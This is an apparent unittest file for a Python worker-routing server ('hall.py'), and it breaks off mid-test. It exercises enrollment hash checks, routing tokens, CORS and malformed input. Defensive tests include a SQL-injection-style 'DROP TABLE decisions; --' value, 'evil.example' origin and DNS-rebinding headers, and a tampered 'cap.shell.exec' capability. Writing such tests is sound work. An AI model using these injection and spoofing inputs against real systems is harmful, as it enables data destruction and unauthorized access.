"""Tests of hall.py: a real server on an ephemeral loopback port over a real
SQLite file, driven with http.client, plus direct calls of the pure router.

    python -m unittest -v test_hall
"""

import base64
import contextlib
import datetime
import errno
import hashlib
import http.client
import http.server
import io
import json
import os
import queue
import re
import shutil
import signal
import socketserver
import socket
import sqlite3
import ssl
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
import unittest
import urllib.parse
import urllib.request
import uuid
import warnings
from unittest import mock

import hall

HERE = os.path.dirname(os.path.abspath(__file__))
HALL_PY = os.path.join(HERE, "hall.py")


# -- helpers -------------------------------------------------------------------

def worker_record(worker_id="org.example.summarizer", species="wrk.doc.summarizer",
                  capabilities=("cap.doc.summarize",), **extra):
    """A worker record with a correct artifact_hash."""
    record = {"worker_id": worker_id, "worker_species_id": species,
              "capabilities": list(capabilities), "risk_tier": "low"}
    record.update(extra)
    record["artifact_hash"] = hall.compute_artifact_hash(record)
    return record


def route_body(**overrides):
    body = {"capability_id": "cap.doc.summarize", "env": "dev", "data_label": "PUBLIC",
            "tenant_id": "org.acme"}
    body.update(overrides)
    return body


def check_schema(testcase, value, schema):
    """The value fits one of the OpenAPI 3.0 schemas hall.py publishes."""
    testcase.assertIsNone(hall.schema_problem(value, schema), value)


class Client(object):
    """http.client over one keep-alive connection."""

    def __init__(self, url):
        host_port = url.split("://", 1)[1]
        host, port = host_port.rsplit(":", 1)
        self.conn = http.client.HTTPConnection(host, int(port), timeout=10)

    def request(self, method, path, body=None, token=None, headers=None, raw=None):
        headers = dict(headers or {})
        if token:
            headers["Authorization"] = "Bearer " + token
        data = raw
        if body is not None:
            data = json.dumps(body).encode()
            headers.setdefault("Content-Type", "application/json")
        self.conn.request(method, path, body=data, headers=headers)
        response = self.conn.getresponse()
        payload = response.read()
        is_json = "json" in (response.getheader("Content-Type") or "")
        parsed = json.loads(payload) if payload and is_json else (payload or None)
        return response.status, {k.lower(): v for k, v in response.getheaders()}, parsed

    def close(self):
        self.conn.close()


class TempDirCase(unittest.TestCase):
    """Each test gets a temporary directory (``self.tmp``), removed afterwards,
    with ``self.db`` a database path inside it."""

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.addCleanup(self.tmp.cleanup)
        self.db = os.path.join(self.tmp.name, "hall.db")

    def write_file(self, name, content):
        """A file in the temporary directory: text as is, anything else as JSON."""
        path = os.path.join(self.tmp.name, name)
        with open(path, "w") as handle:
            handle.write(content if isinstance(content, str) else json.dumps(content))
        return path


class ServerCase(TempDirCase):
    """Each test gets a fresh hall on a temporary database and an ephemeral port."""

    settings = {}

    def setUp(self):
        TempDirCase.setUp(self)
        self.hall = None
        self.start()

    def tearDown(self):
        self.stop()

    def start(self, **settings):
        config = hall.Config(db_path=self.db, access_log=False,
                             token_file=os.path.join(self.tmp.name, "hall.token"),
                             **dict(self.settings, **settings))
        self.hall = hall.Hall(config)
        self.server = self.hall.serve(port=0)
        self.client = Client(self.server.url)
        _, self.admin = self.hall.create_token("test admin", ["admin"])
        _, self.router_token = self.hall.create_token("test router", ["route"])
        _, self.reader = self.hall.create_token("test reader", ["read"])

    def stop(self):
        if self.hall is not None:
            self.client.close()
            self.server.stop()
            self.hall.close()
            self.hall = None

    def restart(self, **settings):
        self.stop()
        self.start(**settings)

    def call(self, method, path, body=None, token=None, **kwargs):
        return self.client.request(method, path, body, token, **kwargs)

    def enroll(self, record):
        status, _, body = self.call("POST", "/enroll", record)
        self.assertIn(status, (200, 201), body)
        return body

    def route(self, token=None, **overrides):
        return self.call("POST", "/api/route", route_body(**overrides),
                         token=token or self.router_token)

    def receipt_keys(self):
        """{key_id: secret} of the hall's receipt key file."""
        with open(self.db + ".keys") as handle:
            return {k["key_id"]: k["secret"] for k in json.load(handle)["keys"]}

    def db_rows(self, sql, params=()):
        conn = sqlite3.connect(self.db)
        try:
            return conn.execute(sql, params).fetchall()
        finally:
            conn.close()


# -- the reference endpoints ---------------------------------------------------

class ReadEndpointsTest(ServerCase):

    def test_health_reports_the_hash_of_the_running_file(self):
        status, headers, body = self.call("GET", "/health")
        self.assertEqual(status, 200)
        self.assertEqual(headers["content-type"], "application/json; charset=utf-8")
        with open(HALL_PY, "rb") as handle:
            expected = "sha256:" + hashlib.sha256(handle.read()).hexdigest()
        self.assertEqual(body, {"status": "ok", "timestamp": body["timestamp"],
                                "hall_hash": expected, "hall_hash_banned": False})
        self.assertRegex(body["timestamp"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00$")

    def test_health_does_not_touch_the_database(self):
        store, self.hall.store = self.hall.store, None   # any database access would raise
        try:
            status, _, body = self.call("GET", "/health")
        finally:
            self.hall.store = store
        self.assertEqual((status, body["status"]), (200, "ok"))

    def test_status_counts_workers_decisions_and_todays_denials(self):
        self.enroll(worker_record())
        self.route()
        self.route(capability_id="cap.unknown")
        yesterday = "2020-01-01T00:00:00.000000+00:00"
        self.call("POST", "/decisions/ingest", {"decided_at": yesterday, "denied": True})
        status, _, body = self.call("GET", "/status")
        self.assertEqual(status, 200)
        self.assertEqual(body["hall_version"], "0.3.0")
        self.assertEqual(body["hall_name"], "PyHall")
        self.assertEqual(body["workers_enrolled"], 1)
        self.assertEqual(body["decisions_total"], 3)
        self.assertEqual(body["decisions_today"], 2)
        self.assertEqual(body["denials_today"], 1)
        self.assertIs(body["online"], True)
        self.assertEqual(body["account_standing"], "ok")
        self.assertTrue(body["standing_checked_at"].endswith("+00:00"))

    def test_workers_newest_first_with_documented_fields(self):
        self.enroll(worker_record("w.one"))
        self.enroll(worker_record("w.two", species="wrk.other", capabilities=["cap.x", "cap.y"],
                                  extra_field={"kept": True}))
        status, _, body = self.call("GET", "/workers")
        self.assertEqual(status, 200)
        self.assertEqual(body["count"], 2)
        self.assertEqual([w["worker_id"] for w in body["workers"]], ["w.two", "w.one"])
        first = body["workers"][0]
        self.assertEqual(set(first), {"worker_id", "worker_species_id", "capabilities",
                                      "risk_tier", "enrolled_at", "status"})
        self.assertEqual(first["capabilities"], ["cap.x", "cap.y"])
        self.assertEqual((first["risk_tier"], first["status"]), ("low", "active"))

    def test_dispatches_newest_first_and_limit_clamped(self):
        for i in range(5):
            self.call("POST", "/decisions/ingest",
                      {"decision_id": "d%d" % i, "decided_at": "2026-01-01T00:00:0%dZ" % i})
        status, _, body = self.call("GET", "/dispatches")
        self.assertEqual(status, 200)
        self.assertEqual([d["decision_id"] for d in body["dispatches"]],
                         ["d4", "d3", "d2", "d1", "d0"])
        self.assertEqual(body["count"], 5)
        self.assertEqual(self.call("GET", "/dispatches?limit=2")[2]["count"], 2)
        self.assertEqual(self.call("GET", "/dispatches?limit=0")[2]["count"], 1)
        self.assertEqual(self.call("GET", "/dispatches?limit=-7")[2]["count"], 1)
        self.assertEqual(self.call("GET", "/dispatches?limit=9999&other=x")[2]["count"], 5)
        for bad in ("abc", "1.5", "", "1e3"):
            status, _, body = self.call("GET", "/dispatches?limit=" + bad)
            self.assertEqual((status, body), (400, {"error": "limit must be an integer"}), bad)

    def race_for_a_cached_answer(self, outcome):
        """Five threads ask hall.cached for one key at once; the first one's
        compute ends with ``outcome()``.  Returns (computes run, what each got)."""
        # Start just after the second turns: cached answers last until then.
        second, deadline = int(time.monotonic()), time.monotonic() + 5
        while int(time.monotonic()) == second and time.monotonic() < deadline:
            pass
        computing, finish, computed, results = (threading.Event(), threading.Event(), [],
                                                queue.Queue())

        def slow():
            computed.append("first")
            computing.set()
            finish.wait(5)
            return outcome()

        def fast():
            computed.append("again")
            return "another answer"

        def ask(compute):
            try:
                results.put(self.hall.cached("k", compute))
            except hall.HallError as exc:
                results.put(exc.message)

        first = threading.Thread(target=ask, args=(slow,))
        first.start()
        self.assertTrue(computing.wait(5))
        others = [threading.Thread(target=ask, args=(fast,)) for _ in range(4)]
        for thread in others:
            thread.start()
        others[0].join(0.2)
        self.assertTrue(all(t.is_alive() for t in others))      # waiting, not computing
        finish.set()
        for thread in [first] + others:
            thread.join(5)
        return computed, [results.get(timeout=5) for _ in range(5)]

    def test_a_read_answer_is_computed_by_one_thread_while_the_others_wait(self):
        self.assertEqual(self.race_for_a_cached_answer(lambda: "first answer"),
                         (["first"], ["first answer"] * 5))

    def test_a_refused_read_is_shared_by_the_threads_waiting_for_it(self):
        def busy():
            raise hall.Unavailable("the database is busy")
        self.assertEqual(self.race_for_a_cached_answer(busy),
                         (["first"], ["the database is busy"] * 5))

    def test_dispatches_limit_caps_at_200(self):
        self.hall.store.write(lambda conn: conn.executemany(
            "INSERT INTO decisions (decision_id, decided_at, capability_id) VALUES (?, ?, 'cap')",
            [("id%03d" % i, "2026-01-01T00:00:00.%06d+00:00" % i) for i in range(250)]))
        status, _, body = self.call("GET", "/dispatches?limit=500")
        self.assertEqual((status, body["count"]), (200, 200))
        self.assertEqual(body["dispatches"][0]["decision_id"], "id249")

    def test_active_dispatches_is_empty(self):
        self.assertEqual(self.call("GET", "/dispatches/active")[::2],
                         (200, {"dispatches": [], "count": 0}))

    def test_alerts_newest_first_at_most_50(self):
        for i in range(55):
            self.hall.raise_alert("info", "TEST_%d" % i, "alert %d" % i)
        status, _, body = self.call("GET", "/alerts")
        self.assertEqual((status, body["count"]), (200, 50))
        self.assertEqual(body["alerts"][0]["code"], "TEST_54")
        self.assertEqual(set(body["alerts"][0]), {"alert_id", "created_at", "level", "code",
                                                  "message", "worker_id", "capability_id"})


class EnrollTest(ServerCase):

    def test_new_worker_is_201_and_same_worker_again_is_200_updated(self):
        record = worker_record(currently_implements=["ctrl.obs.audit-log-append-only"])
        status, _, body = self.call("POST", "/enroll", record)
        self.assertEqual(status, 201)
        self.assertEqual(body["enrolled"], True)
        self.assertEqual(body["worker_id"], record["worker_id"])
        self.assertEqual(body["artifact_hash_verified"], True)
        uuid.UUID(body["enrollment_id"])
        self.assertTrue(body["enrolled_at"].endswith("+00:00"))
        updated = worker_record(capabilities=["cap.doc.summarize", "cap.doc.translate"])
        status, _, body = self.call("POST", "/enroll", updated)
        self.assertEqual((status, body), (200, {"enrolled": True, "updated": True,
                                                "worker_id": record["worker_id"],
                                                "artifact_hash_verified": True}))
        rows = self.db_rows("SELECT capabilities, record_json FROM enrollments")
        self.assertEqual(len(rows), 1)
        self.assertEqual(json.loads(rows[0][0]), ["cap.doc.summarize", "cap.doc.translate"])
        self.assertEqual(json.loads(rows[0][1]), updated)

    def test_the_same_record_again_is_200_updated_and_writes_nothing(self):
        record = worker_record()
        self.enroll(record)
        version = "SELECT value FROM meta WHERE key = 'registry_version'"
        before = self.db_rows(version) + self.db_rows("SELECT * FROM enrollments")
        status, _, body = self.call("POST", "/enroll", record)
        self.assertEqual((status, body["updated"]), (200, True))
        self.assertEqual(self.db_rows(version) + self.db_rows("SELECT * FROM enrollments"), before)
        changed = worker_record(risk_tier="medium")
        self.assertEqual(self.call("POST", "/enroll", changed)[0], 200)
        self.assertEqual(self.db_rows(version), [(before[0][0] + 1,)])
        self.assertEqual(self.db_rows("SELECT risk_tier FROM enrollments"), [("medium",)])
        self.assertEqual(self.route()[2]["worker_id"], record["worker_id"])

    def test_a_record_another_hall_stored_first_still_refreshes_this_halls_registry(self):
        self.enroll(worker_record())
        self.assertEqual(self.call("GET", "/workers")[2]["workers"][0]["risk_tier"], "low")
        other = hall.Hall(hall.Config(db_path=self.db, access_log=False))
        self.addCleanup(other.close)
        other.enroll(worker_record(risk_tier="high"))
        self.assertEqual(self.call("POST", "/enroll", worker_record(risk_tier="high"))[0], 200)
        self.assertEqual(self.call("GET", "/workers")[2]["workers"][0]["risk_tier"], "high")

    def test_extra_fields_are_kept_in_record_json(self):
        record = worker_record(owner="team-a", limits={"rps": 5}, note="caf\u00e9 \u2603")
        self.enroll(record)
        stored = json.loads(self.db_rows("SELECT record_json FROM enrollments")[0][0])
        self.assertEqual(stored, record)

    def test_validation_errors_in_documented_order_and_text(self):
        cases = [
            ({}, "worker_id is required"),
            ({"worker_id": ""}, "worker_id is required"),
            ({"worker_id": "  "}, "worker_id is required"),
            ({"worker_id": 5}, "worker_id must be a string"),
            ({"worker_id": "w"}, "worker_species_id is required"),
            ({"worker_id": "w", "worker_species_id": "s"}, "capabilities must be a non-empty list"),
            ({"worker_id": "w", "worker_species_id": "s", "capabilities": []},
             "capabilities must be a non-empty list"),
            ({"worker_id": "w", "worker_species_id": "s", "capabilities": "cap.a"},
             "capabilities must be a non-empty list"),
            ({"worker_id": "w", "worker_species_id": "s", "capabilities": [""]},
             "capabilities must be a non-empty list of non-empty strings"),
            ({"worker_id": "w", "worker_species_id": "s", "capabilities": [1]},
             "capabilities must be a non-empty list of non-empty strings"),
        ]
        for body, error in cases:
            status, _, answer = self.call("POST", "/enroll", body)
            self.assertEqual((status, answer), (400, {"error": error}), body)
        status, _, answer = self.call("POST", "/enroll", {"worker_id": "w", "worker_species_id":
                                                          "s", "capabilities": ["c"]})
        self.assertEqual(status, 400)
        self.assertTrue(answer["error"].startswith("artifact_hash is required"))
        self.assertEqual(self.db_rows("SELECT count(*) FROM enrollments"), [(0,)])

    def test_optional_fields_are_type_checked(self):
        for field, value in (("risk_tier", 3), ("currently_implements", "ctrl.a"),
                             ("currently_implements", [1]), ("allowed_environments", ["moon"]),
                             ("artifact_hash", 12)):
            record = worker_record()
            record[field] = value
            status, _, answer = self.call("POST", "/enroll", record)
            self.assertEqual(status, 400, field)
            self.assertIn(field, answer["error"])

    def test_tampered_hash_is_refused_and_raises_an_alert(self):
        record = worker_record("org.example.tampered")
        record["capabilities"] = ["cap.doc.summarize", "cap.shell.exec"]   # after hashing
        status, _, body = self.call("POST", "/enroll", record)
        self.assertEqual((status, body), (400, {"error": "artifact_hash mismatch",
                                                "code": "DENY_WORKER_TAMPERED"}))
        self.assertEqual(self.db_rows("SELECT count(*) FROM enrollments"), [(0,)])
        alerts = self.call("GET", "/alerts")[2]["alerts"]
        self.assertEqual(len(alerts), 1)
        self.assertEqual((alerts[0]["level"], alerts[0]["code"], alerts[0]["worker_id"]),
                         ("warning", "DENY_WORKER_TAMPERED", "org.example.tampered"))
        self.assertIn("org.example.tampered", alerts[0]["message"])

    def test_repeated_tampering_is_deduplicated(self):
        record = worker_record("org.example.tampered")
        record["risk_tier"] = "high"
        for _ in range(20):
            self.assertEqual(self.call("POST", "/enroll", record)[0], 400)
        self.assertEqual(self.db_rows("SELECT count(*) FROM alerts"), [(1,)])

    def test_hash_uses_ascii_escapes_like_json_dumps(self):
        record = {"worker_id": "w\u00e9", "worker_species_id": "s", "capabilities": ["c"]}
        payload = json.dumps(record, sort_keys=True, separators=(",", ":")).encode()
        record["artifact_hash"] = "sha256:" + hashlib.sha256(payload).hexdigest()
        self.assertEqual(self.call("POST", "/enroll", record)[0], 201)


class IngestTest(ServerCase):

    def test_all_fields_optional_with_documented_defaults(self):
        status, _, body = self.call("POST", "/decisions/ingest", {})
        self.assertEqual(status, 201)
        self.assertEqual(body["recorded"], True)
        uuid.UUID(body["decision_id"])
        row = self.call("GET", "/dispatches")[2]["dispatches"][0]
        self.assertEqual(row, {"decision_id": body["decision_id"], "decided_at": row["decided_at"],
                               "capability_id": "", "tenant_id": "", "env": "dev", "denied": 0,
                               "deny_reason": None, "selected_worker": None,
                               "blast_score": None, "artifact_hash": None})

    def test_full_decision_round_trips_and_time_is_canonical(self):
        decision = {"decision_id": "550e8400-e29b-41d4-a716-446655440000",
                    "decided_at": "2026-02-28T14:00:00+02:00",
                    "capability_id": "cap.doc.summarize", "tenant_id": "acme-corp",
                    "env": "prod", "denied": True, "deny_reason": "DENY_POLICY_GATE",
                    "selected_worker": None, "blast_score": 2,
                    "artifact_hash": "sha256:abc123"}
        status, _, body = self.call("POST", "/decisions/ingest", decision)
        self.assertEqual((status, body), (201, {"recorded": True,
                                                "decision_id": decision["decision_id"]}))
        row = self.call("GET", "/dispatches")[2]["dispatches"][0]
        expected = dict(decision, denied=1, decided_at="2026-02-28T12:00:00.000000+00:00")
        self.assertEqual(row, expected)

    def test_timestamp_forms(self):
        forms = {"2026-02-28T12:00:00Z": "2026-02-28T12:00:00.000000+00:00",
                 "2026-02-28T12:00:00.5": "2026-02-28T12:00:00.500000+00:00",
                 "2026-02-28 13:30:00+0130": "2026-02-28T12:00:00.000000+00:00",
                 "2026-02-28": "2026-02-28T00:00:00.000000+00:00",
                 "2026-02-28T12:00:00.123456789-00:00": "2026-02-28T12:00:00.123456+00:00"}
        for text, canonical in forms.items():
            self.assertEqual(hall.parse_timestamp(text), canonical, text)
        for text in ("yesterday", "2026-13-01", "2026-02-30T00:00:00Z", "2026-02-28T25:00:00",
                     "", "2026-02-28T12:00:00+99:00"):
            self.assertIsNone(hall.parse_timestamp(text), text)

    def test_duplicate_decision_id_is_ignored_and_still_201(self):
        first = {"decision_id": "dup-1", "capability_id": "cap.a", "denied": False}
        second = {"decision_id": "dup-1", "capability_id": "cap.b", "denied": True}
        self.assertEqual(self.call("POST", "/decisions/ingest", first)[0], 201)
        status, _, body = self.call("POST", "/decisions/ingest", second)
        self.assertEqual((status, body), (201, {"recorded": True, "decision_id": "dup-1"}))
        self.assertEqual(self.db_rows("SELECT capability_id, denied FROM decisions"),
                         [("cap.a", 0)])
        self.assertEqual(self.call("GET", "/status")[2]["decisions_total"], 1)

    def test_wrong_types_are_400_and_store_nothing(self):
        bad = [("denied", "yes"), ("denied", 1), ("blast_score", True), ("blast_score", 101),
               ("blast_score", -1), ("blast_score", 2.5), ("blast_score", "3"),
               ("decision_id", 7), ("capability_id", ["x"]), ("tenant_id", {}),
               ("env", 1), ("deny_reason", 5), ("selected_worker", False),
               ("artifact_hash", 1.5), ("decided_at", "not a time"), ("decided_at", 12)]
        for field, value in bad:
            status, _, body = self.call("POST", "/decisions/ingest", {field: value})
            self.assertEqual(status, 400, (field, value))
            self.assertIn(field, body["error"])
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions"), [(0,)])

    def test_nulls_take_the_defaults(self):
        body = {k: None for k in ("decision_id", "decided_at", "capability_id", "tenant_id",
                                  "env", "denied", "deny_reason", "selected_worker",
                                  "blast_score", "artifact_hash")}
        self.assertEqual(self.call("POST", "/decisions/ingest", body)[0], 201)
        self.assertEqual(self.db_rows("SELECT capability_id, tenant_id, env, denied "
                                      "FROM decisions"), [("", "", "dev", 0)])


class RouteEndpointTest(ServerCase):

    def test_allowed_route_has_both_client_contracts(self):
        self.enroll(worker_record())
        status, _, d = self.route(correlation_id="trace-1")
        self.assertEqual(status, 200)
        # seed 001's short form
        self.assertIs(d["allowed"], True)
        self.assertEqual(d["worker_id"], "org.example.summarizer")
        self.assertIsNone(d["deny_reason"])
        # seed 000's RouteDecision
        self.assertIs(d["denied"], False)
        self.assertIsNone(d["deny_reason_if_denied"])
        self.assertEqual(d["selected_worker_species_id"], "wrk.doc.summarizer")
        self.assertEqual(d["matched_rule_id"], "auto.cap.doc.summarize.wrk.doc.summarizer")
        self.assertEqual(d["correlation_id"], "trace-1")
        self.assertEqual((d["tenant_risk"], d["qos_class"]), ("low", "P2"))
        uuid.UUID(d["decision_id"])
        check_schema(self, d, hall.ROUTE_RESPONSE)

    def test_every_decision_is_logged_but_dry_runs_are_not(self):
        self.enroll(worker_record())
        allowed = self.route()[2]
        denied = self.route(capability_id="cap.nothing")[2]
        dry = self.route(dry_run=True)[2]
        self.assertIs(dry["dry_run"], True)
        self.assertIs(dry["allowed"], True)
        rows = self.call("GET", "/dispatches")[2]["dispatches"]
        self.assertEqual([r["decision_id"] for r in rows],
                         [denied["decision_id"], allowed["decision_id"]])
        self.assertEqual(rows[0]["denied"], 1)
        self.assertEqual(rows[0]["deny_reason"], "DENY_NO_MATCHING_RULE")
        self.assertEqual(rows[1]["selected_worker"], "wrk.doc.summarizer")
        self.assertEqual(rows[1]["artifact_hash"], allowed["artifact_hash"])
        self.assertEqual(self.call("GET", "/status")[2]["decisions_total"], 2)

    def test_denial_is_still_200_with_deny_code(self):
        status, _, d = self.route()
        self.assertEqual(status, 200)
        self.assertIs(d["allowed"], False)
        self.assertEqual(d["deny_reason"], "DENY_NO_MATCHING_RULE")
        self.assertEqual(d["deny_reason_if_denied"]["code"], "DENY_NO_MATCHING_RULE")
        self.assertEqual(d["matched_rule_id"], "NO_MATCH")
        self.assertIsNone(d["worker_id"])

    def test_token_required_by_header_or_cookie(self):
        status, headers, body = self.call("POST", "/api/route", route_body())
        self.assertEqual((status, body["code"]), (401, "UNAUTHORIZED"))
        self.assertIn("bearer", headers["www-authenticate"].lower())
        self.assertEqual(self.route(token="hall_not-a-real-token")[0], 401)
        status, _, _ = self.call("POST", "/api/route", route_body(),
                                 headers={"Cookie": "theme=dark; pyhall_session=" +
                                          self.router_token})
        self.assertEqual(status, 200)
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions"), [(1,)])

    def test_read_only_token_is_403(self):
        _, reader = self.hall.create_token("reader", ["read"])
        status, _, body = self.route(token=reader)
        self.assertEqual((status, body["code"]), (403, "FORBIDDEN"))

    def test_hall_token_variable_has_every_scope(self):
        self.restart(token="operator-secret")
        self.assertEqual(self.route(token="operator-secret")[0], 200)
        self.assertEqual(self.route(token="operator-secre")[0], 401)

    def test_missing_and_invalid_fields(self):
        for field in ("capability_id", "env", "data_label", "tenant_id"):
            body = route_body()
            del body[field]
            status, _, answer = self.call("POST", "/api/route", body, token=self.router_token)
            self.assertEqual((status, answer), (400, {"error": "missing field: %s" % field}))
        for field, value in (("env", "production"), ("data_label", "public"),
                             ("tenant_risk", "extreme"), ("qos_class", "P9"), ("env", 3)):
            status, _, answer = self.route(**{field: value})
            self.assertEqual(status, 400, (field, value))
            self.assertIn(field, answer["error"])
        for field, value in (("blast_score", True), ("blast_score", "50"), ("blast_score", 5.5),
                             ("request", [1]), ("dry_run", "yes"), ("correlation_id", 4),
                             ("_rules", "x"), ("_rules", {"rules": {}})):
            status, _, answer = self.route(token=self.admin, **{field: value})
            self.assertEqual(status, 400, (field, value))
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions"), [(0,)])

    def test_staging_is_accepted(self):
        self.enroll(worker_record(allowed_environments=["stage"]))
        status, _, d = self.route(env="staging")
        self.assertEqual((status, d["allowed"], d["env"]), (200, True, "staging"))

    def test_request_rules_need_the_rules_or_admin_scope(self):
        self.enroll(worker_record())
        rules = {"rules": [{"rule_id": "r.custom", "match": {"capability_id": "cap.doc.summarize"},
                            "decision": {"candidate_workers_ranked": [
                                {"worker_species_id": "wrk.doc.summarizer", "score_hint": 1}]}}]}
        status, _, body = self.route(_rules=rules)
        self.assertEqual((status, body["code"]), (403, "FORBIDDEN_RULES_OVERRIDE"))
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions"), [(0,)])
        _, rules_token = self.hall.create_token("rules", ["route", "rules"])
        for token in (rules_token, self.admin):
            status, _, d = self.route(token=token, _rules=rules)
            self.assertEqual((status, d["matched_rule_id"], d["allowed"]),
                             (200, "r.custom", True))
        status, _, body = self.route(token=self.admin, _rules={"rules": [{"rule_id": ""}]})
        self.assertEqual(status, 400)
        self.assertTrue(body["error"].startswith("_rules:"))

    def test_operator_rules_file_applies(self):
        path = os.path.join(self.tmp.name, "rules.json")
        with open(path, "w") as handle:
            json.dump({"rules": [{"rule_id": "op.summarize", "match": {
                "capability_id": "cap.doc.summarize", "env": {"in": ["dev", "stage"]}},
                "decision": {"candidate_workers_ranked": [
                    {"worker_species_id": "wrk.doc.summarizer"}]}}]}, handle)
        self.restart(rules_path=path)
        self.enroll(worker_record())
        self.assertEqual(self.route()[2]["matched_rule_id"], "op.summarize")
        self.assertEqual(self.route(env="staging")[2]["matched_rule_id"], "op.summarize")
        self.assertEqual(self.route(env="edge")[2]["deny_reason"], "DENY_NO_MATCHING_RULE")

    def test_seed_001_go_client_shape(self):
        # The Go example decodes {"allowed": bool, "deny_reason": string}; null is fine there.
        status, _, d = self.route(tenant_id="org.you")
        self.assertEqual(status, 200)
        self.assertIsInstance(d["allowed"], bool)
        self.assertIn("decision_id", d)
        self.assertIsInstance(d["deny_reason"], str)


class HttpBehaviourTest(ServerCase):

    def test_unknown_path_is_404_json(self):
        status, headers, body = self.call("GET", "/nope")
        self.assertEqual((status, body["code"]), (404, "NOT_FOUND"))
        self.assertIn("application/json", headers["content-type"])

    def test_wrong_method_is_405_with_allow(self):
        status, headers, body = self.call("DELETE", "/workers")
        self.assertEqual(status, 405)
        self.assertEqual(headers["allow"], "GET, HEAD, OPTIONS")
        self.assertEqual(body["code"], "METHOD_NOT_ALLOWED")
        status, headers, _ = self.call("GET", "/enroll")
        self.assertEqual((status, headers["allow"]), (405, "OPTIONS, POST"))

    def test_not_json_is_415(self):
        status, _, body = self.call("POST", "/enroll", raw=b"worker_id=x",
                                    headers={"Content-Type": "application/x-www-form-urlencoded"})
        self.assertEqual((status, body["code"]), (415, "UNSUPPORTED_MEDIA_TYPE"))

    def test_body_over_the_cap_is_413(self):
        self.restart(max_body=1000)
        status, headers, body = self.call("POST", "/decisions/ingest",
                                          raw=b'{"x": "' + b"a" * 5000 + b'"}',
                                          headers={"Content-Type": "application/json"})
        self.assertEqual((status, body["code"]), (413, "PAYLOAD_TOO_LARGE"))
        self.assertEqual(headers.get("connection"), "close")

    def test_malformed_bodies_are_400_and_store_nothing(self):
        bodies = [b"", b"{", b"[]", b'"x"', b"null", b"{'a': 1}", b"\xff\xfe{}",
                  b'{"worker_id": NaN}', b'{"blast_score": 1e999}', b'{"a": 1, "a": 2}',
                  b"[" * 5000 + b"]" * 5000, b'{"x": "\\ud800"}', b"{} trailing"]
        for path in ("/enroll", "/decisions/ingest", "/api/route"):
            for raw in bodies:
                status, _, body = self.call("POST", path, raw=raw, token=self.admin,
                                            headers={"Content-Type": "application/json"})
                self.assertEqual(status, 400, (path, raw[:30]))
                self.assertIsInstance(body["error"], str)
        self.assertEqual(self.db_rows("SELECT (SELECT count(*) FROM decisions) + "
                                      "(SELECT count(*) FROM enrollments)"), [(0,)])

    def test_odd_but_valid_input_is_stored_faithfully(self):
        weird = "ctrl\x1b\r\n quote' semi; DROP TABLE decisions; -- \u2603 \U0001f600"
        status, _, body = self.call("POST", "/decisions/ingest",
                                    {"decision_id": weird, "tenant_id": weird,
                                     "capability_id": "x" * 100000})
        self.assertEqual(status, 201)
        rows = self.db_rows("SELECT decision_id, tenant_id, length(capability_id) FROM decisions")
        self.assertEqual(rows, [(weird, weird, 100000)])
        self.assertEqual(self.call("GET", "/dispatches")[2]["dispatches"][0]["tenant_id"], weird)
        # NUL would be cut short by SQLite's functions and most tools: refused
        status, _, body = self.call("POST", "/decisions/ingest", {"tenant_id": "a\x00b"})
        self.assertEqual((status, body["error"]), (400, "request body has a NUL character "
                                                        "in a string"))
        self.assertEqual(self.call("POST", "/decisions/ingest", {"tenant_id": "a\\u0000"})[0],
                         201)

    def test_cors_on_every_response_and_preflight(self):
        for method, path in (("GET", "/health"), ("GET", "/nope"), ("POST", "/api/route")):
            _, headers, _ = self.call(method, path, headers={"Origin": "http://monitor"})
            self.assertEqual(headers["access-control-allow-origin"], "*", path)
        status, headers, body = self.call("OPTIONS", "/api/route",
                                          headers={"Origin": "http://monitor",
                                                   "Access-Control-Request-Method": "POST"})
        self.assertEqual((status, body), (204, None))
        self.assertIn("POST", headers["access-control-allow-methods"])
        self.assertEqual(headers["access-control-allow-headers"], "Content-Type, Authorization")

    def test_cors_origin_list(self):
        self.restart(cors_origins="https://a.example, https://b.example")
        _, headers, _ = self.call("GET", "/health", headers={"Origin": "https://b.example"})
        self.assertEqual(headers["access-control-allow-origin"], "https://b.example")
        _, headers, _ = self.call("GET", "/health", headers={"Origin": "https://evil.example"})
        self.assertNotIn("access-control-allow-origin", headers)

    def test_what_is_open_on_loopback_is_open_to_this_hosts_programs_not_to_web_pages(self):
        port = self.server.url.rsplit(":", 1)[1]
        for headers in ({"Origin": "https://evil.example"}, {"Origin": "null"},
                        {"Host": "evil.example:" + port},        # DNS rebinding
                        {"Host": "evil.example", "Origin": "http://evil.example"},
                        {"Origin": "http://[::1"}, {"Host": ""}):
            status, _, body = self.call("POST", "/enroll", worker_record("w.page"),
                                        headers=headers)
            self.assertEqual((status, body["code"]), (401, "UNAUTHORIZED"), headers)
            self.assertIn("only programs on this host", body["error"])
            self.assertEqual(self.call("GET", "/dispatches", headers=headers)[0], 401, headers)
        self.assertEqual(self.db_rows("SELECT count(*) FROM enrollments"), [(0,)])
        self.assertEqual(self.call("GET", "/health", headers={"Origin": "null"})[0], 200)
        status, _, _ = self.call("POST", "/enroll", worker_record("w.token"), token=self.admin,
                                 headers={"Origin": "https://evil.example"})
        self.assertEqual(status, 201)           # (a token is the caller's own say-so)
        for n, headers in enumerate(({}, {"Origin": "http://localhost:" + port},
                                     {"Host": "localhost:" + port},
                                     {"Host": "[::1]:" + port, "Origin": "http://127.0.0.1"},
                                     {"Host": "hall.localhost"})):
            status, _, body = self.call("POST", "/enroll", worker_record("w.local%d" % n),
                                        headers=headers)
            self.assertEqual(status, 201, (headers, body))

    def test_keep_alive_serves_many_requests_on_one_connection(self):
        for _ in range(20):
            self.assertEqual(self.call("GET", "/health")[0], 200)
        self.assertEqual(self.call("POST", "/decisions/ingest", {})[0], 201)
        self.assertEqual(self.call("GET", "/status")[0], 200)

    def test_response_is_one_write(self):
        # Headers and body arrive together: one recv sees the whole answer.
        host, port = self.server.server_address[:2]
        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
            data = b""
            while b"\r\n\r\n" not in data:
                data += sock.recv(65536)
            head, _, rest = data.partition(b"\r\n\r\n")
            length = int([l for l in head.split(b"\r\n")
                          if l.lower().startswith(b"content-length")][0].split(b":")[1])
            deadline = time.monotonic() + 5
